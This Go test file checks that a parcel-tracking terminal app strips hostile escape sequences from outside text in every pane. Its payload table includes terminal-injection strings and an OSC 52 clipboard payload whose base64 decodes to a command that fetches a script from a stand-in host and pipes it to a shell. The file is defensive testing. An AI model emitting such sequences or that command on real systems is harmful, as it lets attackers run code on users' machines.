package ui

import (
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/charmbracelet/x/ansi"

	"waybill/tracker"
	"waybill/tracker/number"
	"waybill/tracker/templates"
)

// hostileKinds are the attacks outside text can carry onto a terminal, one
// of each family Sanitize has to stop.
var hostileKinds = []struct{ name, payload string }{
	{"CSI cursor move", "\x1b[10;10H\x1b[5A\x1b[3C"},
	{"CSI clear screen", "\x1b[2J\x1b[3J\x1b[H"},
	{"CSI SGR from outside", "\x1b[5;31mblink"},
	{"OSC 0 title", "\x1b]0;pwned\x07"},
	{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"},
	{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"},
	{"DCS", "\x1bP+q544e\x1b\\"},
	{"APC", "\x1b_Gf=100;AAAA\x1b\\"},
	{"PM and SOS", "\x1b^pm\x1b\\\x1bXsos\x1b\\"},
	{"bare ESC", "a\x1b b\x1b"},
	{"C1 controls", "\u0085\u0084\u008d\u009b2J\u009d0;t\u009c"},
	{"raw 8-bit CSI", "\x9b2J\x9b31m"},
	{"BEL BS CR", "ring\x07\x08\x08\roverwrite"},
	{"bidi overrides", "\u202egnp.exe\u202c\u2066x\u2069"},
	{"huge", strings.Repeat("W", 1<<20)},
	{"huge wide", strings.Repeat("宽", 1<<18)},
	{"unterminated OSC 52", "\x1b]52;c;AAAA"},
}

// hostileFake is the triage fake with every outside string it holds (order
// numbers, buyers, destinations, carriers, events, exception details,
// alerts, the refresher's reasons) carrying the payload.
func hostileFake(p string) (*fakeReader, *fakeRefresher) {
	f := triageFake()
	bad := func(s string) string { return s + p + s }
	for i := range f.rows {
		r := &f.rows[i]
		r.OrderNo, r.Buyer, r.Destination, r.Carrier = bad(r.OrderNo), bad(r.Buyer), bad(r.Destination), bad(r.Carrier)
	}
	for id, evs := range f.events {
		for i := range evs {
			evs[i].Description, evs[i].Location, evs[i].RawStatus = bad(evs[i].Description), bad(evs[i].Location), bad("raw")
		}
		f.events[id] = evs
	}
	for i := range f.exceptions {
		x := &f.exceptions[i]
		x.Detail, x.OrderNo, x.Carrier, x.Destination, x.Owner = bad(x.Detail), bad(x.OrderNo), bad(x.Carrier), bad(x.Destination), bad(x.Owner)
	}
	for i := 0; i < 3; i++ {
		f.alerts = append(f.alerts, tracker.Alert{ID: int64(i + 1), Key: "k", Channel: "email", Kind: bad("lost"),
			Severity: tracker.SeverityHigh, Subject: bad("subject"), Body: bad("body"), LastError: bad("smtp"),
			CreatedAt: fixedNow.Add(-time.Hour)})
	}
	ref := &fakeRefresher{state: tracker.RefresherState{Err: bad("pass failed"), LastPass: fixedNow,
		Services: []tracker.ServiceHealth{{Service: bad("17track"), State: tracker.HealthPaused, Reason: bad("rate limited"), Until: fixedNow.Add(time.Hour)}}}}
	return f, ref
}

// foreignEscapes lists what in a rendered screen could act on a terminal
// other than the styling we emit ourselves. Lipgloss emits only SGR
// (ESC [ params m) into View output; bubbletea adds cursor moves and mode
// changes when it paints, outside View. Everything else is foreign: any
// other escape, C0 controls but the line feed, DEL, C1 controls (also as raw
// bytes), invalid UTF-8 and bidi controls.
func foreignEscapes(s string) []string {
	var bad []string
	for i := 0; i < len(s); {
		c := s[i]
		if n := ourHyperlink(s[i:]); n > 0 {
			i += n
			continue
		}
		if c == 0x1b {
			j := i + 1
			if j < len(s) && s[j] == '[' {
				j++
				for j < len(s) && (s[j] >= '0' && s[j] <= '9' || s[j] == ';' || s[j] == ':') {
					j++
				}
				if j < len(s) && s[j] == 'm' {
					i = j + 1
					continue
				}
			}
			bad = append(bad, fmt.Sprintf("%q at %d", s[i:min(len(s), i+12)], i))
			i++
			continue
		}
		r, size := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && size <= 1:
			bad = append(bad, fmt.Sprintf("invalid UTF-8 %q at %d", s[i:i+1], i))
		case r < 0x20 && r != '\n', r == 0x7f, r >= 0x80 && r <= 0x9f, isBidiControl(r):
			bad = append(bad, fmt.Sprintf("control %U at %d", r, i))
		}
		i += size
	}
	return bad
}

// ourLink reports whether uri is a tracking page the order view links a
// parcel to (templates.TrackingURL of some carrier, 17TRACK's for the rest)
// for a query-escaped number: a link from outside text is anything else.
func ourLink(uri string) bool {
	slugs := []string{""}
	for _, c := range number.Carriers() {
		slugs = append(slugs, c.Slug)
	}
	const n = "QQQ"
	for _, slug := range slugs {
		pre, post, _ := strings.Cut(templates.TrackingURL(slug, n), n)
		rest, ok := strings.CutPrefix(uri, pre)
		if !ok {
			continue
		}
		num, ok := strings.CutSuffix(rest, post)
		if ok && num != "" && strings.IndexFunc(num, func(r rune) bool {
			return !(r >= 'A' && r <= 'Z' || r >= 'a' && r <= 'z' || r >= '0' && r <= '9' || r == '%')
		}) < 0 {
			return true
		}
	}
	return false
}

// ourHyperlink is the length of the OSC 8 sequence s starts with when it is
// one the order view writes: the end of a link, or the start of one to
// ourLink; else 0.
func ourHyperlink(s string) int {
	rest, ok := strings.CutPrefix(s, "\x1b]8;;")
	if !ok {
		return 0
	}
	end := strings.IndexByte(rest, '\a')
	if end < 0 {
		return 0
	}
	if uri := rest[:end]; uri != "" && !ourLink(uri) {
		return 0
	}
	return len("\x1b]8;;") + end + 1
}

// checkScreen fails when the view holds a foreign escape or does not fit
// the w×h terminal.
func checkScreen(t *testing.T, where, view string, w, h int) {
	t.Helper()
	// An SGR from outside looks like ours; we never blink.
	if strings.Contains(view, "\x1b[5;31m") {
		t.Errorf("%s: the outside SGR reached the screen", where)
	}
	if bad := foreignEscapes(view); len(bad) > 0 {
		t.Errorf("%s: %d foreign controls, first %s", where, len(bad), bad[0])
	}
	lines := strings.Split(view, "\n")
	if len(lines) > h {
		t.Errorf("%s: %d lines on a %d-line terminal", where, len(lines), h)
	}
	for i, l := range lines {
		if lw := ansi.StringWidth(l); lw > w {
			t.Errorf("%s: line %d is %d columns wide on a %d-column terminal", where, i, lw, w)
			break
		}
	}
	// Styling costs bytes, but not more than a few dozen per cell.
	if len(view) > w*h*64 {
		t.Errorf("%s: %d bytes for a %d×%d screen", where, len(view), w, h)
	}
}

func TestForeignEscapesSeesEachAttack(t *testing.T) {
	for _, k := range hostileKinds {
		if strings.Trim(k.payload, "W宽") == "" {
			continue
		}
		if len(foreignEscapes("x"+k.payload)) == 0 && !strings.HasPrefix(k.payload, "\x1b[5;31m") {
			t.Errorf("%s: the checker sees nothing in %q", k.name, k.payload)
		}
	}
	if bad := foreignEscapes("\x1b[1;38;2;1;2;3mok\x1b[m\n"); len(bad) > 0 {
		t.Errorf("SGR flagged: %v", bad)
	}
}

// TestEveryPaneStripsEachAttack feeds each kind of attack through
// every pane that shows outside text, through the real models, and reads
// the rendered screen.
func TestEveryPaneStripsEachAttack(t *testing.T) {
	const w, hgt = 120, 36
	for _, k := range hostileKinds {
		t.Run(k.name, func(t *testing.T) {
			f, ref := hostileFake(k.payload)
			fc := newFakeCases(f)
			opts := Options{Reader: f, Refresher: ref, Templates: mustTemplates(t), Actor: tracker.Actor{Name: "agent" + k.payload},
				Seller: "Shop" + k.payload, Title: "db" + k.payload}
			h := newHarness(t, opts, w, hgt)
			checkScreen(t, "orders, timeline, queue, status bar", h.view(), w, hgt)

			h.press("enter") // the selected order in full: buyer, parcels, links
			if h.app.orderView == nil || !h.app.orderView.loaded {
				t.Fatalf("no order view:\n%s", screen(h))
			}
			checkScreen(t, "order view", h.view(), w, hgt)
			h.press("e") // its fields, prefilled from outside text
			checkScreen(t, "order edit form", h.view(), w, hgt)
			h.press("esc", "esc")

			h.press("tab", "enter") // the timeline, and its first event in full
			if _, ok := h.app.prompt.(*eventPrompt); !ok {
				t.Fatalf("no event in full:\n%s", screen(h))
			}
			checkScreen(t, "event in full", h.view(), w, hgt)
			h.press("esc")

			h.press("tab") // the exceptions queue and its detail
			checkScreen(t, "exceptions queue", h.view(), w, hgt)
			h.press("j")
			checkScreen(t, "exceptions queue, second", h.view(), w, hgt)

			h.press("!") // the alerts overlay
			checkScreen(t, "alerts overlay", h.view(), w, hgt)
			h.press("esc")

			h.press("c") // the case of the selected exception: buyer, messages
			if h.app.caseView == nil {
				t.Fatalf("no case view:\n%s", screen(h))
			}
			checkScreen(t, "case view", h.view(), w, hgt)
			c, _, ok := fc.only()
			if !ok {
				t.Fatal("no case opened")
			}
			fc.mu.Lock()
			fc.logs[c.ID] = append(fc.logs[c.ID], tracker.CaseEntry{CaseID: c.ID, At: fixedNow, Actor: "buyer" + k.payload,
				Action: tracker.CaseActionType("note"), Detail: "message" + k.payload})
			fc.mu.Unlock()
			h.press("esc", "c") // reopen: the log reloads with the entry
			checkScreen(t, "case view with log", h.view(), w, hgt)
		})
	}
}

// isBidiControl reports the Unicode bidi controls Sanitize drops.
func isBidiControl(r rune) bool {
	return (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) || r == 0x200e || r == 0x200f || r == 0x061c
}
